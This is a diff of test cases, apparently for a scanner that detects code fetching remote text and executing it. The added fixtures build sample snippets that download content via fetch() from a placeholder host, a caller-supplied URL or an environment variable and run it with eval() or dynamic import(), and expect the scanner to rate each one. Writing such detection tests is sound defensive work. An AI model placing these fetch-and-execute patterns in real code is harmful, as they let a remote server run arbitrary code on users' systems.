@@ -35,6 +35,22 @@ describe('code from a server', () => {
     expect(await seen({ 'hot.js': code })).toEqual(['context hot.js:2'])
   })
 
+  it('what may be of a server that the caller names', async () => {
+    const loader = (address: string) =>
+      `const read = async (u, given) => given ?? (await (await fetch(${address})).text())\nmodule.exports = async (u, given) => eval(await read(u, given))\n`
+    expect(await seen({ 'load.js': loader('u') })).toEqual(['strong load.js:2'])
+    expect(await seen({ 'load.js': loader("'https://a.invalid/' + u") })).toEqual(['decisive load.js:2'])
+    expect(await seen({ 'load.js': loader('process.env.API') })).toEqual(['decisive load.js:2'])
+  })
+
+  it('a module that a server names', async () => {
+    const route = (specifier: string) =>
+      `const load = async () => { const r = await (await fetch('https://a.invalid')).text(); await import(${specifier}) }\nload()`
+    expect(await seen({ 'app.js': route("r + '/route.js'") })).toEqual(['strong app.js:1'])
+    expect(await seen({ 'app.js': route('r') })).toEqual(['decisive app.js:1'])
+    expect(await seen({ 'app.js': route("'data:text/javascript,' + r") })).toEqual(['decisive app.js:1'])
+  })
+
   it('not an answer that is shown', async () => {
     expect(
       await seen({
